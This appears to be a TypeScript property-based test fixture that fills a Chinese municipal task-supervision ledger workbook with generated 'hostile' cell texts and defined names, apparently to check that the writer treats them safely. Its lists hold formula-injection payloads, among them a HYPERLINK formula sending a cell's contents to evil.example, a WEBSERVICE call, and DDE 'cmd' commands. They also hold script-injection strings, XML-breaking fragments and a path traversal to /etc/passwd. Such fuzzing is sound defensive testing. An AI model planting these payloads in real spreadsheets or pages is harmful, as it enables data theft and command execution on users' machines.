import fc from 'fast-check';
import { createWorkbook } from '../../src/host/workbook/create';
import type { CellScalar, SheetModel, WorkbookModel } from '../../src/host/workbook/model';

/** Signs that could be taken for something else than text, wherever a text goes. */
const PIECES = [
  '=', '+', '-', '@', "'", '"', '""', '`', '&', '<', '>', '<>', '*', '?', '~', '|', '#', ':', '!', '$', '{', '}', '[', ']', '(', ')', ',', ';', '\\', '/',
  '\t', '\n', '\r', '\r\n', ' ', '\u3000', '\u00a0', '\u0000', '\u0001', '\u0007', '\u001b', '\u007f', '\u200b', '\u200f', '\u202e', '\u2028', '\ufeff', '\ufffe', '\ud83d', '\ude00',
  '=1+1', '=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|'/C calc'!A0", '@SUM(1)', "='[1]Sheet1'!A1", '=WEBSERVICE("http://evil.example")', '_x0041_', '_x0000_',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '</t></is></c>', ']]>', '&#0;', '&amp;', '../../etc/passwd', 'CON', 'http://evil.example/',
  '#REF!', '#N/A', 'TRUE', '001', '1e308', '2024/3/1', '3月底前', '工'.repeat(300), 'x'.repeat(32_767),
] as const; // prettier-ignore

/** A text of one or several such signs, alone or within words. */
export const hostileText: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...PIECES) },
      fc.constantFrom('市财政局', '任务', '甲', 'a', 'A', '、', '，'),
    ),
    { minLength: 1, maxLength: 4 },
  ) // prettier-ignore
  .map((pieces) => pieces.join('').slice(0, 32_767));

/** The same, short enough and without what Excel refuses: the name of a sheet. */
export const hostileSheetName: fc.Arbitrary<string> = fc
  .array(
    fc.constantFrom(
      "'",
      '"',
      '&',
      '<',
      '>',
      '=',
      '+',
      '-',
      '@',
      '!',
      '#',
      '%',
      '(',
      '，',
      '台账',
      ' ',
      '1',
      'A1',
      '\u202e',
      '😀',
    ),
    { minLength: 1, maxLength: 6 },
  ) // prettier-ignore
  .map((pieces) => `账${pieces.join('')}本`.slice(0, 31));

const HEADER = ['序号', '任务来源', '工作任务', '牵头单位', '配合单位', '责任领导', '工作类别', '完成时限', '办理状态', '进展情况', '办结时间', '备注']; // prettier-ignore
const PLAIN: readonly (readonly string[])[] = [
  ['1', '2', '3', '4', '5', '6'],
  ['市政府常务会议', '市长办公会议'],
  ['推进滨河大桥建设', '完成老旧小区改造', '新建公办幼儿园两所', '压减一般性支出'],
  ['市交通局', '市住建局', '市教育局', '市财政局、市审计局'],
  ['', '市财政局'],
  ['陈志远', '李文博'],
  ['经济', '民生'],
  ['2024年3月底前', '2024年12月底前', '每月底前', ''],
  ['已办结', '正在推进', '逾期'],
  ['正在有序推进', '已完成主体工程'],
  ['', '2024年3月1日'],
  ['', '无'],
];

/** A place in the ledger where a hostile text stands. */
export interface Placed {
  readonly row: number;
  readonly column: number;
  readonly text: string;
}

const TASKS = 6;
const FIRST_TASK = 2;

export const placed: fc.Arbitrary<readonly Placed[]> = fc.array(
  fc.record({
    row: fc.oneof({ weight: 8, arbitrary: fc.integer({ min: FIRST_TASK, max: FIRST_TASK + TASKS - 1 }) }, fc.nat(1)),
    column: fc.nat(HEADER.length - 1),
    text: hostileText,
  }),
  { minLength: 1, maxLength: 10 },
);

/** Names as they stand in workbooks that were made to do harm, or that have been through many hands. */
export const hostileNames: fc.Arbitrary<WorkbookModel['names']> = fc.array(
  fc.record({
    name: fc.constantFrom('台账_统计日', '_xlnm.Print_Area', '_xlnm._FilterDatabase', 'A', 'lol1', 'lol2', '循环', '台账管家_本表由台账管家生成'), // prettier-ignore
    formula: fc.constantFrom('=#REF!', '=#REF!$A$1', '=循环', '=lol2&lol2&lol2', '=lol1&lol1', "='[1]外部'!$A$1", '=1+', '="x"', '=OFFSET(台账!$A$1,0,0,1048576,16384)', "=cmd|'/c calc'!A0"), // prettier-ignore
    visible: fc.boolean(),
    scope: fc.constant(null),
  }),
  { maxLength: 4 },
) as unknown as fc.Arbitrary<WorkbookModel['names']>;

/** A ledger of a few tasks with hostile texts in some places; each stands as a text, as if somebody had typed it. */
export function hostileWorkbook(
  name: string,
  places: readonly Placed[],
  names: WorkbookModel['names'] = [],
): WorkbookModel {
  const model = createWorkbook(name);
  const sheet = model.sheets[0] as SheetModel;
  const put = (row: number, column: number, value: CellScalar): void => {
    const cells = sheet.rows.get(row) ?? new Map();
    if (value !== '') cells.set(column, { value, style: 0 });
    sheet.rows.set(row, cells);
  };
  put(0, 0, '2024年重点工作督办台账');
  HEADER.forEach((header, column) => put(1, column, header));
  for (let task = 0; task < TASKS; task++) {
    PLAIN.forEach((words, column) => put(FIRST_TASK + task, column, column === 0 ? task + 1 : (words[task % words.length] ?? ''))); // prettier-ignore
  }
  for (const { row, column, text } of places) put(row, column, text);
  const seen = new Set<string>();
  model.names = names.filter(({ name: each }) => !seen.has(each) && seen.add(each)).map((each) => ({ ...each }));
  return model;
}
